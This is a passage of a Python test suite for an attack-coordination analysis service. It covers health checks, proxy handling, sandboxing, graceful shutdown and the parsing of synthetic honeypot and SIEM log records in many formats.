            log = eventually(lambda i=i: [line for line in server.errors().splitlines() if "settings not read again" in line][i:], "it is told")
            self.assertIn(told, log[0])
            self.assertNotIn("geheim", log[0])
            self.assertEqual((200, 422), (status(5), status(6)))

    @staticmethod
    def workers_of(server):
        with open(f"/proc/{server.process.pid}/task/{server.process.pid}/children", encoding="ascii") as f:
            main = set(f.read().split())
        for task in os.listdir(f"/proc/{server.process.pid}/task"):
            with contextlib.suppress(OSError), open(f"/proc/{server.process.pid}/task/{task}/children", encoding="ascii") as f:
                main |= set(f.read().split())
        return main

    def test_services_that_were_named_are_told_of(self):
        gone = socket.socket()  # bound, so that nobody else listens there
        self.addCleanup(gone.close)
        gone.bind(("127.0.0.1", 0))
        port = gone.getsockname()[1]
        there = http.server.ThreadingHTTPServer(("127.0.0.1", 0), http.server.BaseHTTPRequestHandler)  # 501 to all
        there.RequestHandlerClass = type("Locked", (http.server.BaseHTTPRequestHandler,), {
            "do_GET": lambda h: h.send_error(401), "log_message": lambda *a: None})
        thread = threading.Thread(target=there.serve_forever)
        thread.start()
        self.addCleanup(thread.join)
        self.addCleanup(there.server_close)
        self.addCleanup(there.shutdown)
        server = Server(self.folder, LLM_SERVICE_URL=f"http://127.0.0.1:{port}/v1",
                        ELASTICSEARCH_URL=f"http://127.0.0.1:{there.server_address[1]}/behind",
                        COORD_ES_USER="user", COORD_ES_PASSWORD="geheim")
        self.addCleanup(server.stop)
        ready = lambda: server.get("/health/ready", key=None)
        told = eventually(lambda: "unknown" not in ready().json()["dependencies"].values() and ready(), "both were asked")
        self.assertEqual((200, "ready"), (told.status, told.json()["status"]))
        self.assertEqual(("healthy", "unhealthy"), tuple(told.json()["dependencies"][name] for name in ("elasticsearch", "llm_service")))
        self.assertNotIn("geheim", server.errors())

    def remotes(self, header, **settings):
        """Whom the audit log names for one submission."""
        server = Server(self.folder, **settings)
        self.assertEqual(200, server.post("/analyze/coordination", {"attack_sessions": sessions()},
                                          headers={"X-Forwarded-For": header, "X-Request-Id": "asked"}).status)
        self.assertEqual(0, server.stop())
        with contextlib.closing(sqlite3.connect(os.path.join(self.folder, "state/coord.db"))) as db:
            return [row[0] for row in db.execute("SELECT remote FROM audit WHERE request_id = 'asked'")]

    def test_who_asked_behind_a_trusted_proxy(self):
        self.assertEqual(["198.51.100.7"], self.remotes("203.0.113.1, 198.51.100.7", COORD_TRUSTED_PROXIES="127.0.0.0/8"))

    def test_a_stranger_does_not_choose_its_address(self):
        self.assertEqual(["127.0.0.1"], self.remotes("198.51.100.7"))
        result = subprocess.run([COORD, "serve"], env=environment(COORD_STATE_DIR=self.folder, COORD_TRUSTED_PROXIES="nginx"),
                                capture_output=True, timeout=DEADLINE_S, check=False)
        self.assertEqual(2, result.returncode)
        self.assertIn(b"COORD_TRUSTED_PROXIES", result.stderr)

    def test_a_taken_port_is_told(self):
        with socket.socket() as s:
            s.bind(("127.0.0.1", 0))
            s.listen()
            with self.assertRaisesRegex(AssertionError, "cannot listen"):
                Server(self.folder, COORD_LISTEN=f"127.0.0.1:{s.getsockname()[1]}")

    def test_open_mode_needs_no_key(self):
        server = Server(self.folder, COORD_OPEN="yes")
        self.addCleanup(server.stop)
        self.assertIsNone(server.key)
        self.assertEqual(200, server.post("/analyze/coordination", {"attack_sessions": sessions()}, key=None).status)

    def test_systemd_is_told(self):
        path = os.path.join(self.folder, "notify")
        with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as s:
            s.bind(path)
            s.settimeout(DEADLINE_S)
            server = Server(self.folder, NOTIFY_SOCKET=path)
            self.assertEqual(b"READY=1", s.recv(100))
            server.stop()
            self.assertEqual(b"STOPPING=1", s.recv(100))

    def test_stop_answers_what_has_begun(self):
        server = Server(self.folder)
        body = json.dumps({"attack_sessions": sessions()}).encode()
        with server.connect() as s:
            s.sendall(f"POST /analyze/coordination HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {server.key}\r\n"
                      f"Content-Length: {len(body)}\r\n\r\n".encode() + body[:-1])
            eventually(lambda: re.search(r"coordination_http_connections [1-9]", server.get("/metrics").body.decode()),
                       "the connection is open")
            server.process.send_signal(signal.SIGTERM)
            s.sendall(body[-1:])
            answer = read_all(s)
        self.assertIn(b" 200 OK", answer)
        self.assertIn(b"Connection: close", answer)
        self.assertEqual(0, server.stop())


def shapes():
    """One session of every shape that docs/formats.md knows as an object, each of an address of its own: name -> (address, object)."""
    ip = (f"203.0.113.{i}" for i in range(1, 100))
    made = {}

    def add(name, build):
        address = next(ip)
        made[name] = (address, build(address))

    at, dip = "2025-07-28T10:00:04.100Z", "192.0.2.10"
    add("cowrie", lambda a: {"eventid": "cowrie.login.failed", "username": "root", "password": "x", "session": "8599dd602207",
                             "src_ip": a, "sensor": "pi1", "timestamp": at})
    add("adbhoney", lambda a: {"eventid": "adbhoney.session.connect", "timestamp": at, "session": "abc", "src_ip": a, "src_port": 1,
                               "dst_ip": dip, "dst_port": 5555, "sensor": "s"})
    for name, agent, rule, headers in (("web", "zgrab/0.x", {"id": 4, "max_score": 72}, {"Host": dip + ":8080"}),
                                       ("old web", ["curl/8"], None, {"host": dip})):
        add(name, lambda a, g=agent, r=rule, h=headers: {
            "time": "2025-07-28T10:03:40.392047", "headers": h, "sip": a, "dip": dip, "method": "GET", "url": "/boaform",
            "data": "", "useragent": g, "version": "HTTP/1.1", "response_id": 1, "signature_id": r})
    packet = lambda a: {"time": 1753696800, "sip": a, "dip": dip, "proto": 6, "sport": "5000", "dport": "23", "flags": "S", "version": 4}
    add("firewall record", packet)
    add("firewall submission", lambda a: {"type": "firewall", "logs": [packet(a)]})
    add("cowrie submission", lambda a: {"type": "cowrie", "logs": [{"timestamp": 1753696800, "source_ip": a, "user": "root",
                                                                   "password": "1", "lastcommand": "id", "banner": "SSH-2.0-Go"}]})
    add("zeek", lambda a: {"_path": "conn", "ts": 1753696800.087384, "uid": "CPQ9vC2my8sIGasb3a", "id.orig_h": a, "id.orig_p": 47822,
                           "id.resp_h": dip, "id.resp_p": 22, "proto": "tcp", "duration": 12.41, "conn_state": "SF"})
    add("suricata", lambda a: {"timestamp": "2025-07-28T10:00:02.251547+0000", "flow_id": 1586497171462735, "event_type": "alert",
                               "src_ip": a, "src_port": 50096, "dest_ip": dip, "dest_port": 80, "proto": "TCP",
                               "alert": {"signature_id": 2018358, "gid": 1, "rev": 10, "signature": "ET", "severity": 2}})
    document = lambda a: {"@timestamp": at, "event.dataset": "honeypot", "event.code": "c0ffee" + a, "event.outcome": "command.input",
                          "source.address": a, "network.protocol": "ssh", "source.user.command": "uname -a", "agent": {"name": "pi1"}}
    add("siem hit", lambda a: {"_index": "cowrie-2025.07.28-000001", "_id": "k3b9", "_source": document(a)})
    add("search answer", lambda a: {"hits": {"hits": [{"_index": "cowrie-x", "_id": "h1", "_source": document(a)}]}})
    add("siem packet", lambda a: {"@timestamp": at, "event": {"dataset": "iptables"}, "source": {"ip": a, "address": a},
                                  "destination": {"ip": dip, "port": 23}, "network": {"transport": "TCP"}})
    add("siem web", lambda a: {"@timestamp": at, "event.dataset": "webhoneypot", "source.address": a, "destination.address": dip,
                               "http.request.method": "GET", "url.original": "/x"})
    add("filebeat zeek", lambda a: {"@timestamp": at, "event": {"module": "zeek", "dataset": "zeek.connection", "duration": 1000},
                                    "zeek": {"session_id": "Cx"}, "source": {"ip": a, "port": 1},
                                    "destination": {"ip": dip, "port": 22}, "network": {"transport": "tcp"}})
    add("filebeat suricata", lambda a: {"@timestamp": at, "event": {"module": "suricata", "dataset": "suricata.eve"},
                                        "suricata": {"eve": {"flow_id": "77", "event_type": "alert", "alert": {"signature_id": 1}}},
                                        "source": {"ip": a}, "destination": {"ip": dip, "port": 22}})
    add("tpot", lambda a: {"@timestamp": at, "type": "Honeytrap", "src_ip": a, "src_port": 1, "dest_ip": dip, "dest_port": 5060,
                           "t-pot_hostname": "t"})
    add("dshield-mcp", lambda a: {"id": "1", "timestamp": at, "source_ip": a, "destination_ip": dip, "source_port": 1,
                                  "destination_port": 22, "protocol": "tcp", "event_type": "x", "description": "login", "raw_data": {}})
    add("attack session", lambda a: session(source_ip=a))
    add("camel case", lambda a: {"sourceIp": a, "start_time": "2025-07-28 10:00:00", "request": "GET /", "dport": "80"})
    add("attacker", lambda a: {"attacker_ip": a, "first_seen": 1753696800123, "commands": ["id", "ls"], "destination_port": 22})
    add("a time with a zone", lambda a: {"src_ip": a, "@timestamp": "2025-07-28T10:00:00+02:00", "input": "id", "dst_port": 22})
    add("mapped address", lambda a: {"src_ip": "::ffff:" + a, "time": "1753696800", "message": "x"})
    made["IPv6"] = ("2001:db8::1", session(source_ip="2001:db8::1"))
    return made


def fences(pid):
    """Of each thread: its name, (no new rights, kind of filter, how many filters)."""
    found = {}
    for thread in os.listdir(f"/proc/{pid}/task"):
        try:
            with open(f"/proc/{pid}/task/{thread}/status", encoding="utf-8") as f:
                said = dict(line.rstrip("\n").split(":\t", 1) for line in f if ":\t" in line)
        except OSError:
            continue  # it has ended
        found[thread] = said["Name"], (said["NoNewPrivs"], said["Seccomp"], said.get("Seccomp_filters"))
    return found


@unittest.skipIf(os.environ.get("COORD_SANITIZER", "none") != "none", "a sanitizer does without")
class Fenced(unittest.TestCase):
    def test_the_process_is_fenced_and_its_answering_threads_twice(self):
        folder = new_folder(self)
        server = Server(folder, COORD_WORKERS="1")
        with contextlib.ExitStack() as stack:
            stack.callback(server.stop)
            server.finished(server.submit({"attack_sessions": sessions(), "analysis_depth": "minimal"}))
            with open(os.path.join(folder, "log"), encoding="utf-8") as log:
                if "fewer fences" in log.read():
                    self.skipTest("this kernel has no fences")
            threads = fences(server.process.pid)
            self.assertEqual({("1", "2")}, {said[:2] for _, said in threads.values()}, "every thread of it")
            answering = [said for name, said in threads.values() if name.startswith("MHD")]
            self.assertTrue(answering)
            self.assertLessEqual({said[2] for said in answering}, {"2", None})
            self.assertEqual(("1", "2", "2"), threads[str(server.process.pid)][1])

    def test_it_can_be_turned_off(self):
        folder = new_folder(self)
        server = Server(folder, COORD_WORKERS="0", COORD_SANDBOX="no")
        with contextlib.ExitStack() as stack:
            stack.callback(server.stop)
            self.assertEqual({"0"}, {said[1] for _, said in fences(server.process.pid).values()})


class Shapes(Serving):
    def test_every_shape_is_recognised_one_by_one_in_one_request(self):
        mixed = shapes()
        result = self.server.finished(self.server.submit({"attack_sessions": [s for _, s in mixed.values()],
                                                          "analysis_depth": "minimal"}))
        found = {s["source_ip"] for s in result["session_clusters"]}
        self.assertEqual([], [name for name, (address, _) in mixed.items() if address not in found], result["errors"])
        self.assertEqual((len(mixed), 0, []), (result["session_count"], result["unusable_sessions"], result["errors"]))


class CoordinationEngineClient:
    """The published client, word for word in what it does: it never looks at the status code."""

    def __init__(self, engine_url, api_key):
        self.engine_url = engine_url
        self.headers = {"Authorization": f"Bearer {api_key}", "Content-Type": "application/json"}

    def call(self, request):
        try:
            with urllib.request.urlopen(request, timeout=DEADLINE_S) as response:
                return json.loads(response.read())
        except urllib.error.HTTPError as error:  # requests' response.json() does not care
            return json.loads(error.read())

    def analyze_coordination(self, attack_sessions):
        return self.call(urllib.request.Request(f"{self.engine_url}/analyze/coordination", headers=self.headers, method="POST",
                                                data=json.dumps({"attack_sessions": attack_sessions}).encode()))

    def get_results(self, analysis_id):
        return self.call(urllib.request.Request(f"{self.engine_url}/analyze/{analysis_id}", headers=self.headers))


def analyze_attack_coordination(attack_data):
    """The published MCP tool."""
    client = CoordinationEngineClient(os.environ["COORDINATION_ENGINE_URL"], os.environ["COORDINATION_API_KEY"])
    return f"Analysis queued with ID: {client.analyze_coordination(json.loads(attack_data))['analysis_id']}"


class Published(Serving):
    """Both clients of the contract, and the original's polling example, unchanged."""

    def poll(self, client, analysis_id):
        """The example: until it is completed or failed; prints each piece of evidence as a number."""
        result = eventually(lambda: (lambda r: r if r["status"] in ("completed", "failed") else None)(
            client.get_results(analysis_id)), "the result")
        self.assertIsNone(result.get("error"))
        self.assertIn(f"{result['coordination_confidence']:.2f}", ("0.00", *(f"{i / 100:.2f}" for i in range(101))))
        return [f"{k}: {v:.2f}" for k, v in result["evidence"].items()]

    def test_the_client(self):
        for url in (self.server.url, self.server.url + "/"):
            client = CoordinationEngineClient(url, self.server.key)
            self.poll(client, client.analyze_coordination(sessions(10))["analysis_id"])

    def test_the_client_reads_every_error(self):
        client = CoordinationEngineClient(self.server.url, self.server.key)
        self.assertEqual("missing", CoordinationEngineClient.call(client, urllib.request.Request(
            self.server.url + "/analyze/coordination", headers=client.headers, data=b"{}"))["detail"][0]["type"])
        self.assertEqual("Analysis not found", client.get_results("nothing")["detail"])
        self.assertEqual("Invalid API key", CoordinationEngineClient(self.server.url, "x").analyze_coordination([])["detail"])

    def test_the_tool(self):
        self.addCleanup(os.environ.pop, "COORDINATION_ENGINE_URL")
        self.addCleanup(os.environ.pop, "COORDINATION_API_KEY")
        os.environ.update(COORDINATION_ENGINE_URL=self.server.url, COORDINATION_API_KEY=self.server.key)
        text = analyze_attack_coordination(json.dumps(sessions(5)))
        self.assertRegex(text, f"^Analysis queued with ID: {UUID4}$")
        self.poll(CoordinationEngineClient(self.server.url, self.server.key), text.rsplit(" ", 1)[1])


class Client(Serving):
    """The published client: posts only the sessions, never looks at the status code."""

    def call(self, method, path, body=None):
        return self.server.request(method, path, body=body).json()

    def test_it_works_unchanged(self):
        answer = self.call("POST", "//analyze/coordination", {"attack_sessions": sessions(10)})
        result = eventually(lambda: (lambda r: r if r["status"] in ("completed", "failed") else None)(
            self.call("GET", "//analyze/" + answer["analysis_id"])), "the result")
        self.assertIsNone(result.get("error"))

    def test_errors_are_json_too(self):
        for method, path, body in (("GET", "/x", None), ("POST", "/analyze/coordination", {}),
                                   ("GET", "/analyze/x", None), ("PUT", "/health", {})):
            self.assertIn("detail", self.call(method, path, body))


if __name__ == "__main__":
    unittest.main()
